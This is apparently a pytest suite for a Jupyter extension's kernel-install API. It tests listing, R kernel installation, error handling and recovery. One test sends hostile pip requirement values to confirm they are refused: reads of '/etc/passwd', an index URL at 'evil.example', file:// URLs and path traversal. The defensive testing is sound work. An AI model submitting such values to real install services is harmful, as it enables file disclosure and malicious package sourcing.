"""The kernels API through a real Jupyter server: listing, bad input, a real R kernel."""
from __future__ import annotations

import json
import os
import shutil

import pytest

from jupyter_mlstudio.s3.ports import free_ports
from tests.kernels_support import Kernel, install, make_api, server_config, text_of


@pytest.fixture
def env_dir(tmp_path):
    return tmp_path / "envs"


@pytest.fixture
def jp_server_config(env_dir):
    return server_config(env_dir)


@pytest.fixture
def service(jp_serverapp):
    (ext,) = jp_serverapp.extension_manager.extension_apps["jupyter_mlstudio"]
    return ext.kernels_service


@pytest.fixture
def api(jp_fetch, service):
    return make_api(jp_fetch)


async def test_lists_kernelspecs_and_installable_kinds(api):
    code, body = await api("GET")
    assert code == 200
    kinds = {k["kind"]: k for k in body["kinds"]}
    assert set(kinds) >= {"r", "scala", "python"}
    assert kinds["r"]["available"] and kinds["scala"]["available"], kinds
    assert kinds["r"]["default_name"] == "ir" and kinds["scala"]["default_name"] == "scala"
    python_options = {o["name"]: o for o in kinds["python"]["options"]}
    assert {"sklearn", "pytorch", "tensorflow", "pyspark", "xgboost"} <= set(
        python_options["preset"]["choices"])
    assert python_options["packages"]["type"] == "list"
    specs = {k["name"]: k for k in body["kernelspecs"]}
    native = specs["python3"]
    assert native["language"] == "python" and native["managed"] is False
    assert os.path.isabs(native["interpreter"]) and os.path.isdir(native["location"])
    assert body["installs"] == []


async def test_bad_requests_are_4xx_json(api):
    async def post(body):
        return await api("POST", "installs", body=body)

    code, err = await post({"kind": "fortran"})
    assert (code, err["reason"]) == (400, "UnknownKind") and "python" in err["message"]
    for name in ("Bad Name", "../x", "-x", "x/y", "installs", "a" * 65, 12, "ÄÖ"):
        code, err = await post({"kind": "r", "name": name})
        assert (code, err["reason"]) == (400, "InvalidName"), name
    code, err = await post({"kind": "python", "name": "p", "options": {"colour": "red"}})
    assert (code, err["reason"]) == (400, "InvalidOption") and "colour" in err["message"]
    code, err = await post({"kind": "python", "name": "p", "options": {"preset": "cobol"}})
    assert (code, err["reason"]) == (400, "InvalidOption")
    code, err = await post({"kind": "python", "name": "p", "options": {"packages": ["-e ."]}})
    assert (code, err["reason"]) == (400, "InvalidOption")
    code, err = await post({"kind": "r", "name": "r1", "options": {"packages": ["no way"]}})
    assert (code, err["reason"]) == (400, "InvalidOption")
    code, err = await post({"kind": "r", "name": "r1", "options": []})
    assert (code, err["reason"]) == (400, "InvalidOption")
    code, err = await post({"kind": "r", "name": "r1", "replace": "yes"})
    assert code == 400
    code, err = await api("POST", "installs", body=b"{not json")
    assert (code, err["reason"]) == (400, "BadJSON")
    code, err = await api("GET", "installs", "abc123")
    assert (code, err["reason"]) == (404, "NoSuchInstall")
    code, err = await api("GET", "no-such-kernel")
    assert (code, err["reason"]) == (404, "NoSuchKernel")
    code, err = await api("DELETE", "no-such-kernel")
    assert (code, err["reason"]) == (404, "NoSuchKernel")
    code, err = await api("DELETE", "python3")  # not ours: refused, and still there
    assert (code, err["reason"]) == (403, "NotManaged") and "kernelspec remove" in err["message"]
    assert (await api("GET", "python3"))[0] == 200
    code, err = await post({"kind": "scala", "options": {"backend": "almond"}})
    assert (code, err["reason"]) == (424, "MissingDependency") and "coursier" in err["message"]


async def test_missing_r_and_java_name_what_to_install(api, service):
    service.installers["r"].r_path = "/nonexistent/R"
    service.installers["scala"].java_path = "/nonexistent/java"
    kinds = {k["kind"]: k for k in (await api("GET"))[1]["kinds"]}
    assert not kinds["r"]["available"] and "r-base-core" in kinds["r"]["message"]
    assert not kinds["scala"]["available"]
    assert "default-jdk-headless" in kinds["scala"]["message"]
    code, err = await api("POST", "installs", body={"kind": "r"})
    assert (code, err["reason"]) == (424, "MissingDependency")
    assert "apt-get install r-base-core" in err["message"]
    code, err = await api("POST", "installs", body={"kind": "scala"})
    assert (code, err["reason"]) == (424, "MissingDependency")
    assert "apt-get install default-jdk-headless" in err["message"]


@pytest.mark.slow
@pytest.mark.kernel
async def test_r_kernel_installs_runs_and_uninstalls(api, service, jp_serverapp, env_dir):
    job = await install(api, {"kind": "r", "options": {}})
    assert job["status"] == "Completed", job
    assert job["name"] == "ir" and job["progress"] == 100
    spec = job["kernelspec"]
    assert spec["managed"] and spec["kind"] == "r" and spec["language"] == "R"
    assert os.path.isabs(spec["interpreter"]) and spec["argv"][0] == spec["interpreter"]
    assert "IRkernel::main()" in " ".join(spec["argv"])
    assert spec["environment"] == str(env_dir / "ir")
    assert spec["location"].startswith(jp_serverapp.kernel_spec_manager.user_kernel_dir)
    code, listing = await api("GET")
    assert "ir" in {k["name"] for k in listing["kernelspecs"]}
    assert listing["installs"][0]["id"] == job["id"]

    kernel = await Kernel.start("ir", jp_serverapp.kernel_spec_manager)
    try:
        reply, outputs = await kernel.run("1+1")
        assert reply["status"] == "ok" and "[1] 2" in text_of(outputs)
        reply, outputs = await kernel.run("data.frame(a = 1:2, b = c('x', 'y'))")
        assert reply["status"] == "ok"
        assert any(line.split() == ["2", "2", "y"] for line in text_of(outputs).splitlines())
        reply, outputs = await kernel.run("stop('boom')")
        assert reply["status"] == "error" and "boom" in reply["evalue"]
        assert outputs[-1]["type"] == "error"
    finally:
        await kernel.stop()

    code, err = await api("POST", "installs", body={"kind": "r"})  # the name is taken
    assert (code, err["reason"]) == (409, "KernelExists")
    job = await install(api, {"kind": "r", "display_name": "R (again)", "replace": True})
    assert job["status"] == "Completed", job
    assert (await api("GET", "ir"))[1]["display_name"] == "R (again)"

    code, gone = await api("DELETE", "ir")
    assert code == 200 and gone["environment"] == str(env_dir / "ir")
    assert (await api("GET", "ir"))[0] == 404
    assert not os.path.exists(spec["location"]) and not (env_dir / "ir").exists()


async def test_unreachable_cran_fails_cleanly_and_keeps_what_it_replaced(api, env_dir,
                                                                         jp_serverapp):
    (port,) = free_ports(1)  # nothing listens there
    unreachable = {"packages": ["data.table.not.here"], "cran_mirror": f"http://127.0.0.1:{port}"}
    job = await install(api, {"kind": "r", "name": "r-extra", "options": unreachable})
    assert job["status"] == "Failed", job
    assert "cannot reach the CRAN mirror" in job["message"], job["message"]
    assert not (env_dir / "r-extra").exists()
    assert "r-extra" not in jp_serverapp.kernel_spec_manager.find_kernel_specs()
    assert [p.name for p in env_dir.iterdir() if ".trash-" not in p.name] == []

    # A failed replace leaves the kernel it was replacing as it was.
    assert (await install(api, {"kind": "r", "name": "r-old"}))["status"] == "Completed"
    before = (await api("GET", "r-old"))[1]
    job = await install(api, {"kind": "r", "name": "r-old", "display_name": "new",
                              "replace": True, "options": unreachable})
    assert job["status"] == "Failed"
    assert (await api("GET", "r-old"))[1] == before
    assert (env_dir / "r-old" / ".mlstudio" / "env.json").is_file()
    assert sorted(p.name for p in env_dir.iterdir() if ".trash-" not in p.name) == ["r-old"]


async def test_lost_kernelspecs_come_back_and_half_builds_go(api, service, env_dir):
    job = await install(api, {"kind": "r", "name": "r-keep"})
    assert job["status"] == "Completed", job
    location = job["kernelspec"]["location"]
    shutil.rmtree(location)  # a fresh home folder: the kernelspec is gone, the env is not
    (env_dir / "half").mkdir()
    (env_dir / ".half.building").write_text(json.dumps({"pid": 2 ** 22 + 7, "job": "x"}))
    assert service.reregister() == ["r-keep"]
    assert os.path.isfile(os.path.join(location, "kernel.json"))
    assert not (env_dir / "half").exists() and not (env_dir / ".half.building").exists()
    assert service.reregister() == []


@pytest.mark.parametrize("option, value", [
    ("requirements", "-r /etc/passwd"),
    ("requirements", "six\n   --requirement /etc/passwd\n"),
    ("requirements", "six\n-\\\nc /etc/passwd\n"),
    ("requirements", "--index-url http://evil.example/simple"),
    ("requirements", "-e ."),
    ("requirements", "/tmp/some/package"),
    ("requirements", "./pkg"),
    ("requirements", "file:///etc/passwd"),
    ("requirements", "pkg @ file:///tmp/pkg"),
    ("requirements", "pkg @ https://x.example/${HOME}.whl"),
    ("packages", ["six", "  -r /etc/passwd"]),
    ("packages", ["--find-links=/tmp"]),
    ("packages", ["pkg @ file://localhost/tmp/pkg"]),
    ("packages", ["../pkg"]),
])
async def test_pip_options_and_local_files_are_refused_in_requirements(api, option, value):
    code, err = await api("POST", "installs", body={
        "kind": "python", "name": "p", "options": {option: value}})
    assert (code, err["reason"]) == (400, "InvalidOption"), err
    assert f"option '{option}'" in err["message"] and "not allowed" in err["message"]
    code, body = await api("GET", "installs")
    assert body["installs"] == []  # nothing started, nothing written to a log


async def test_offsets_beyond_any_log_are_400(api):
    for name, value in (("offset", "99999999999999999999"), ("offset", "-1"), ("wait", "nan"),
                        ("wait", "inf"), ("wait", "1e400"), ("offset", "1.5"),
                        ("offset", "\uff11"), ("offset", "1_0")):
        code, err = await api("GET", "installs", "abc123", "log", params={name: value})
        assert code == 400 and err["reason"] == "InvalidArgument", (name, value, err)
        assert f"'{name}'" in err["message"]
